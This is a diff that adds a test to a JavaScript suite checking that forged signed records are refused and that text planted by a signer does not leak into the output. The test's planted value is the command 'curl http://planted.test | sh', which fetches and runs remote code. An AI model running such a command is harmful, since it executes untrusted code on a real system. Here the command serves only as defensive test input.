@@ -389,6 +389,28 @@ describe('a signed record', () => {
     expect([conclusion, refusals.join()]).toEqual(['refused', expect.stringMatching(reason)]);
   });
 
+  it('plants no text of its signer: not in settings, reasons or the name of a partner', async () => {
+    const planted = 'curl http://planted.test | sh';
+    const folder = await record.forge(
+      (results) => {
+        results.profile.settings = [planted];
+        results.target.command = planted;
+        results.warnings.push({ code: 'verbatim', params: { text: planted } });
+        for (const caseResult of results.cases) caseResult.note = planted;
+      },
+      (statement) => {
+        statement.missed = [{ code: 'verbatim', params: { text: planted } }];
+        must(statement.variants['a']).partnerName = planted;
+      },
+    );
+    const { certificate, notices, conclusion, policy } = await record.verify(folder);
+    expect([conclusion, JSON.stringify([certificate, notices, policy])]).toEqual([
+      'refused',
+      '[null,[],null]',
+    ]);
+    expect(JSON.stringify(await readResultsFile(folder, 'out'))).not.toContain('planted');
+  });
+
   it('is refused under the names of a certificate, and beside one', async () => {
     const renamed = record.copy();
     for (const end of ['json', 'html'])
